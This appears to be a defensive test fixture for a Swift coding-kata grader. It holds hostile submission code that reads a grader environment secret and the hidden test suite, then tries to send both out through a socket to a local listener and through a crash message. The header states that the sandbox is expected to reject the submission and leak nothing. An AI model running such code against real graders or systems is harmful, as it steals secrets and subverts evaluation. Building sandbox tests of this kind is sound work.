// Reads the grader's environment and the hidden suite, and sends them out: through a check's
// message (a crash reason) and through a socket to a listener on 127.0.0.1. Nothing leaves.
// expect: view-is-weak fail "not graded: `ProcessInfo.processInfo.environment`" @learner-line
// unscreened: view-is-weak crash
// after: no-secret listener-silent
// at: init
let secret = ProcessInfo.processInfo.environment["KATA_HOSTILE_SECRET"] ?? "no-secret-seen"
let suite = (try? String(contentsOfFile: "{{SUITE}}", encoding: .utf8)) ?? "no-suite-seen"
let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
var address = sockaddr_in()
address.sin_family = sa_family_t(AF_INET)
address.sin_addr.s_addr = inet_addr("127.0.0.1")
address.sin_port = UInt16({{PORT}}).bigEndian
let connected = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
if connected == 0 { _ = (secret + suite).withCString { write(fd, $0, strlen($0)) } }
fatalError("leak: \(secret) \(suite.prefix(2000))")
